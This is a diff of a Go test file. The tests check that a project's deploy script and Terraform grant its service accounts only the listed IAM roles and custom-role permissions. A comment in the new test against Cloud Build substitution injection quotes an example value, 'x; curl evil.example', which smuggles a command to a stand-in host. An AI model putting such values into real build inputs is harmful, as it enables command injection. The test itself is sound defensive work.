@@ -15,19 +15,40 @@ import (
 	"testing"
 )
 
-// serviceRoles and buildRoles are all roles of the two service accounts (R31). ROLE stands for
-// the custom role, and customRole lists its permissions.
+// serviceRoles and buildRoles are all roles of the two service accounts, each with what it is
+// granted on (R31). customRoles lists the permissions of the custom roles.
 var (
-	serviceRoles = []string{"ROLE", "roles/datastore.user", "roles/iam.serviceAccountTokenCreator"}
+	serviceRoles = []string{"project: accounts", "project: roles/datastore.user"}
 	buildRoles   = []string{
-		"roles/artifactregistry.writer", "roles/iam.serviceAccountUser", "roles/logging.logWriter",
-		"roles/run.developer", "roles/run.invoker", "roles/storage.objectViewer",
+		"bucket: roles/storage.objectViewer", "project: deployments",
+		"project: roles/logging.logWriter", "repository: roles/artifactregistry.writer",
+		"service account: roles/iam.serviceAccountUser", "service: roles/run.developer",
+		"service: roles/run.invoker",
 	}
-	customRole = []string{
-		"firebaseauth.configs.get", "firebaseauth.users.delete", "firebaseauth.users.get",
-		"firebaseauth.users.update", "identitytoolkit.tenants.get",
+	customRoles = map[string][]string{
+		"accounts": {
+			"firebaseauth.configs.get", "firebaseauth.users.delete", "firebaseauth.users.get",
+			"firebaseauth.users.update", "identitytoolkit.tenants.get",
+		},
+		"deployments": {"run.operations.get"},
 	}
 )
+
+// resources maps the start of a command and the type of a Terraform resource to what they grant
+// a role on.
+var resources = map[string]string{
+	"gcloud projects my-project":   "project",
+	"gcloud run services latchkey": "service",
+	"gcloud iam service-accounts latchkey@my-project.iam.gserviceaccount.com": "service account",
+	"gcloud artifacts repositories latchkey":                                  "repository",
+	"gcloud storage buckets gs://my-project-latchkey-build":                   "bucket",
+	"google_project_iam_member":                                               "project",
+	"google_cloud_run_v2_service_iam_member":                                  "service",
+	"google_service_account_iam_member":                                       "service account",
+	"google_artifact_registry_repository_iam_member":                          "repository",
+	"google_storage_bucket_iam_member":                                        "bucket",
+	"google_iap_web_cloud_run_service_iam_member":                             "service",
+}
 
 // script runs deploy.sh with PROJECT, PATH and environ as its only variables, and returns its
 // output.
@@ -54,70 +75,57 @@ func commands(output string) []string {
 }
 
 func TestR31TheScriptGrantsOnlyTheListedRoles(t *testing.T) {
-	granted := map[string][]string{}
-	grant := regexp.MustCompile(`add-iam-policy-binding .*--member=(\S+) --role=(\S+)`)
+	granted, permissions := map[string][]string{}, map[string][]string{}
+	grant := regexp.MustCompile(`^(.*) add-iam-policy-binding (\S+) .*--member=(\S+) --role=(\S+)`)
+	role := regexp.MustCompile(`roles create latchkey_(\w+) .*--permissions=(\S+)`)
 	for _, command := range commands(script(t, nil, "--dry-run")) {
 		if found := grant.FindStringSubmatch(command); found != nil {
-			const custom = "projects/my-project/roles/latchkey_accounts"
-			role := strings.Replace(found[2], custom, "ROLE", 1)
-			granted[found[1]] = append(granted[found[1]], role)
+			on := resources[found[1]+" "+found[2]]
+			name := strings.TrimPrefix(found[4], "projects/my-project/roles/latchkey_")
+			granted[found[3]] = append(granted[found[3]], on+": "+name)
+		}
+		if found := role.FindStringSubmatch(command); found != nil {
+			permissions[found[1]] = slices.Sorted(slices.Values(strings.Split(found[2], ",")))
 		}
 	}
-	want := map[string][]string{
+	wantGrants(t, granted, map[string][]string{
 		"serviceAccount:latchkey@my-project.iam.gserviceaccount.com":       serviceRoles,
 		"serviceAccount:latchkey-build@my-project.iam.gserviceaccount.com": buildRoles,
-		"allUsers": {"roles/run.invoker"},
-	}
-	wantGrants(t, granted, want)
-	permissions := regexp.MustCompile(`--permissions=(\S+)`)
-	found := permissions.FindStringSubmatch(script(t, nil, "--dry-run"))
-	if found == nil {
-		t.Fatal("the script creates no custom role")
-	}
-	got := slices.Sorted(slices.Values(strings.Split(found[1], ",")))
-	if !slices.Equal(got, customRole) {
-		t.Errorf("the custom role has %q, want %q", got, customRole)
+		"allUsers": {"service: roles/run.invoker"},
+	})
+	if !maps.EqualFunc(permissions, customRoles, slices.Equal) {
+		t.Errorf("the custom roles are %q, want %q", permissions, customRoles)
 	}
 }
 
 func TestR31TerraformGrantsTheSameRoles(t *testing.T) {
-	granted := map[string][]string{}
-	resource := regexp.MustCompile(`(?s)resource "(\w+_iam_\w+)" "\w+" \{(.*?)\n\}`)
-	roles := regexp.MustCompile(`"(roles/[\w.]+)"|google_project_iam_custom_role\.accounts\.id`)
-	member := regexp.MustCompile(`\n  member\s+= (.*)`)
-	permission := regexp.MustCompile(`"(\w+\.\w+\.\w+)"`)
-	for _, block := range resource.FindAllStringSubmatch(terraform(t), -1) {
+	granted, permissions := map[string][]string{}, map[string][]string{}
+	for name, block := range declared(t) {
+		kind, _, _ := strings.Cut(name, ".")
 		switch {
-		case block[1] == "google_project_iam_custom_role":
-			permissions := strings.Join(permission.FindAllString(block[2], -1), ",")
-			got := strings.Split(strings.ReplaceAll(permissions, `"`, ""), ",")
-			slices.Sort(got)
-			if !slices.Equal(got, customRole) {
-				t.Errorf("the custom role has %q, want %q", got, customRole)
-			}
-			continue
-		case !strings.HasSuffix(block[1], "_iam_member"):
-			t.Errorf("%s would take the role away from other accounts; use _iam_member", block[1])
-		}
-		account := member.FindStringSubmatch(block[2])
-		if account == nil {
-			t.Errorf("this grant has no member: %s", block[0])
-			continue
-		}
-		for _, role := range roles.FindAllStringSubmatch(block[2], -1) {
-			if role[1] == "" {
-				role[1] = "ROLE"
-			}
-			granted[account[1]] = append(granted[account[1]], role[1])
+		case kind == "google_project_iam_custom_role":
+			permissions[block.Labels[1]] = matches(`"(\w+\.\w+\.\w+)"`, source(t, name))
+		case strings.HasSuffix(kind, "_iam_member"):
+			role := strings.TrimPrefix(argument(t, name, "role"), "google_project_iam_custom_role.")
+			member := argument(t, name, "member")
+			granted[member] = append(granted[member],
+				resources[kind]+": "+strings.TrimSuffix(role, ".id"))
+		case strings.Contains(kind, "_iam_"):
+			t.Errorf("%s would take the role away from other accounts; use _iam_member", name)
 		}
 	}
 	wantGrants(t, granted, map[string][]string{
 		"google_service_account.service.member":         serviceRoles,
 		"google_service_account.build.member":           buildRoles,
-		`"allUsers"`:                                    {"roles/run.invoker"},
-		"google_project_service_identity.iap[0].member": {"roles/run.invoker"},
-		"each.value": {"roles/iap.httpsResourceAccessor", "roles/run.invoker"},
+		"allUsers":                                      {"service: roles/run.invoker"},
+		"google_project_service_identity.iap[0].member": {"service: roles/run.invoker"},
+		"each.value": {
+			"service: roles/iap.httpsResourceAccessor", "service: roles/run.invoker",
+		},
 	})
+	if !maps.EqualFunc(permissions, customRoles, slices.Equal) {
+		t.Errorf("the custom roles are %q, want %q", permissions, customRoles)
+	}
 }
 
 // wantGrants compares the roles of each account.
@@ -152,7 +160,7 @@ func TestR31TheServiceHasItsOwnAccountAndNoAccountIsEditorOrOwner(t *testing.T) 
 			t.Errorf("%s: uses the default service account", name)
 		}
 	}
-	if !strings.Contains(files["build"], "--service-account=${_SERVICE_ACCOUNT}") {
+	if !strings.Contains(files["build"], `--service-account="$SERVICE_ACCOUNT"`) {
 		t.Error("the build does not deploy with the service's own account")
 	}
 }
@@ -298,7 +306,7 @@ func lint(t *testing.T, gcloud, command string) {
 func buildCommands(t *testing.T) []string {
 	t.Helper()
 	build := regexp.MustCompile(`\\\n\s*`).ReplaceAllString(read(t, "../cloudbuild.yaml"), "")
-	build = regexp.MustCompile(`\$\(cat [^)]*\)|\$?\$\{[^}]*\}`).ReplaceAllString(build, "1")
+	build = regexp.MustCompile(`\$\(cat [^)]*\)|\$\{[^}]*\}|\$\w+`).ReplaceAllString(build, "1")
 	command := regexp.MustCompile(
 		`(?m)^ +(?:\w+=\$\()?(gcloud (?:run|auth) .*?)(?:(?: \|\| true)?\))?$`)
 	// The parser takes | for the end of the command, so a comma replaces it as the delimiter.
@@ -338,9 +346,34 @@ func TestEverySettingReachesTheService(t *testing.T) {
 		"CORS_ORIGINS", "IAP_AUDIENCE", "GOOGLE_CLIENT_IDS", "TENANT_ID", "SIGN_IN_METHODS",
 		"FIREBASE_AUTH_DOMAIN",
 	} {
-		inBuild := strings.Contains(build, name+"=${_"+name+"}")
+		inBuild := strings.Contains(build, "- "+name+"=${_"+name+"}\n") &&
+			strings.Contains(build, name+"=$"+name)
 		if !inBuild || !strings.Contains(dryRun, "_"+name+"=") {
 			t.Errorf("%s does not reach the service", name)
+		}
+	}
+}
+
+// TestSubstitutionsAreNotPartOfAShellScript: Cloud Build inserts substitutions as text, so in
+// args, a value such as "x; curl evil.example" would become a command. It leaves the field
+// script alone, so scripts read the values from their environment.
+func TestSubstitutionsAreNotPartOfAShellScript(t *testing.T) {
+	steps := strings.Split(read(t, "../cloudbuild.yaml"), "\n  - id: ")[1:]
+	for i, step := range steps {
+		step, _, _ = strings.Cut(step, "\n# ") // the rest of the file
+		id, _, _ := strings.Cut(step, "\n")
+		fields, script, _ := strings.Cut(step, "\n    script: ")
+		if strings.Contains(fields, "entrypoint: bash") && strings.Contains(fields, "$") {
+			t.Errorf("%s: bash gets a substitution in args; use script and env", id)
+		}
+		known := append(matches(`(\w+)=\$\{`, fields), matches(`\n +(\w+)=`, script)...)
+		for _, name := range matches(`\$\{?(\w+)`, script) {
+			if !slices.Contains(known, name) {
+				t.Errorf("%s: the script uses $%s, which is not in its env", id, name)
+			}
+		}
+		if i == 0 && script == "" {
+			t.Errorf("%s has no script", id) // so this test still finds the scripts
 		}
 	}
 }
